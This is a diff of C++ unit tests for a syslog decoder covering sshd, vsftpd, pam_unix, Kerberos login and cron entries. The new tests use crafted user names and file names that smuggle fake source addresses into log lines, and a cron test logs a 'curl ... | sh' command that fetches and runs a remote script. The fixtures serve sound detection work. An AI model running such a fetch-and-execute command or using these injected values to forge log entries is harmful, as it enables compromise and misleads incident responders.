@@ -130,6 +130,59 @@ TEST(SshdTest, InjectedUserNameKeepsRealPeer) {
   EXPECT_EQ(F(inv, "user.name"), "a from 10.0.0.1");
 }
 
+// Whatever an attacker types as the user name, the peer is what sshd, vsftpd
+// or pam_unix wrote, and the failure is still decoded as one.
+TEST(AuthDecoderTest, InjectedUserNameKeepsRealPeer) {
+  struct Case {
+    const char* line;
+    const char* ip;
+    const char* user;
+  } cases[] = {
+      {"Nov 28 10:00:01 web1 sshd[811]: Failed password for invalid user x from 10.0.0.1 port 22 "
+       "ssh2 from 203.0.113.9 port 40022 ssh2",
+       "203.0.113.9", "x from 10.0.0.1 port 22 ssh2"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Failed password for invalid user from 10.0.0.1 port 22 "
+       "from 203.0.113.9 port 40022 ssh2",
+       "203.0.113.9", "from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: message repeated 2 times: [ Failed password for invalid "
+       "user x from 10.0.0.1 port 22 from 203.0.113.9 port 40022 ssh2]",
+       "203.0.113.9", "x from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Invalid user x from 10.0.0.1 port 22 from 203.0.113.9 "
+       "port 40022",
+       "203.0.113.9", "x from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: error: maximum authentication attempts exceeded for "
+       "invalid user x from 10.0.0.1 port 22 from 203.0.113.9 port 40022 ssh2 [preauth]",
+       "203.0.113.9", "x from 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Connection closed by invalid user x 10.0.0.1 port 22 "
+       "203.0.113.9 port 40022 [preauth]",
+       "203.0.113.9", "x 10.0.0.1 port 22"},
+      {"Nov 28 10:00:01 web1 sshd[811]: Disconnected from invalid user x 10.0.0.1 port 22 "
+       "203.0.113.9 port 40022 [preauth]",
+       "203.0.113.9", "x 10.0.0.1 port 22"},
+      // vsftpd brackets the user name: a "]" inside it must not hide the failure.
+      {"Nov 28 10:50:00 web1 vsftpd[6000]: [pid 6001] [x] FAIL LOGIN: Client \"10.0.0.1\"] "
+       "FAIL LOGIN: Client \"::ffff:203.0.113.9\"",
+       "203.0.113.9", "x] FAIL LOGIN: Client \"10.0.0.1\""},
+      // pam_unix puts the user last: a "rhost=" inside it is not the peer.
+      {"Nov 28 10:50:01 web1 vsftpd[6001]: pam_unix(vsftpd:auth): authentication failure; "
+       "logname= uid=0 euid=0 tty=ftp ruser=x rhost=203.0.113.9  user=x rhost=10.0.0.1",
+       "203.0.113.9", "x rhost=10.0.0.1"},
+  };
+  for (const Case& c : cases) {
+    Event ev = Decode(c.line);
+    EXPECT_EQ(F(ev, "source.ip"), c.ip) << c.line;
+    EXPECT_EQ(F(ev, "user.name"), c.user) << c.line;
+  }
+  // The fallback for vsftpd does not let a crafted file name turn an upload
+  // into a login from another address.
+  Event up = Decode(
+      "Nov 28 10:50:00 web1 vsftpd[6000]: [pid 6001] [bob] OK UPLOAD: Client \"192.0.2.5\", "
+      "\"/a] OK LOGIN: Client \"10.0.0.1\"\", 12 bytes, 1.20Kbyte/sec");
+  EXPECT_EQ(F(up, "event.action"), "ftp_upload");
+  EXPECT_EQ(F(up, "user.name"), "bob");
+  EXPECT_EQ(F(up, "source.ip"), "192.0.2.5");
+}
+
 TEST(SshdTest, OtherMessages) {
   Event ev = Decode(
       "Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for "
@@ -377,14 +430,30 @@ TEST(AccountChangeTest, UseraddGroupaddUsermod) {
   EXPECT_EQ(G(p, "user.name"), "alice");
 }
 
+TEST(KerberosLoginTest, FailureCarriesThePeer) {
+  Event ev =
+      D("Jun 30 20:53:04 combo klogind[19272]: Authentication failed from 163.27.187.39 "
+        "(163.27.187.39): Permission denied in replay cache code ");
+  EXPECT_EQ(G(ev, "event.action"), "kerberos_login");
+  EXPECT_EQ(G(ev, "event.outcome"), "failure");
+  EXPECT_EQ(G(ev, "source.ip"), "163.27.187.39");
+  EXPECT_EQ(G(ev, "source.domain"), "<absent>");
+  EXPECT_EQ(G(ev, "event.reason"), "Permission denied in replay cache code");
+  Event other = D("Jun 30 20:53:04 combo klogind[19272]: Kerberos authentication failed ");
+  EXPECT_EQ(G(other, "event.action"), "<absent>");
+}
+
 TEST(CronTest, Commands) {
   Event c =
       D("Nov 28 10:45:01 web1 CRON[5000]: (www-data) CMD (curl -s http://198.51.100.9/x.sh | sh)");
   EXPECT_EQ(G(c, "event.action"), "cron_command");
   EXPECT_EQ(G(c, "user.name"), "www-data");
   EXPECT_EQ(G(c, "process.command_line"), "curl -s http://198.51.100.9/x.sh | sh");
+  // crontab(1) itself logs the edits: root replaced www-data's crontab.
   Event r = D("Nov 28 10:45:02 web1 crontab[5001]: (root) REPLACE (www-data)");
-  EXPECT_EQ(G(r, "event.action"), "<absent>");  // crontab is not cron; no decoder claims it
+  EXPECT_EQ(G(r, "event.action"), "crontab_replaced");
+  EXPECT_EQ(G(r, "user.name"), "root");
+  EXPECT_EQ(G(r, "user.target.name"), "www-data");
   Event r2 = D("Nov 28 10:45:02 web1 cron[5001]: (root) REPLACE (www-data)");
   EXPECT_EQ(G(r2, "event.action"), "crontab_replaced");
 }
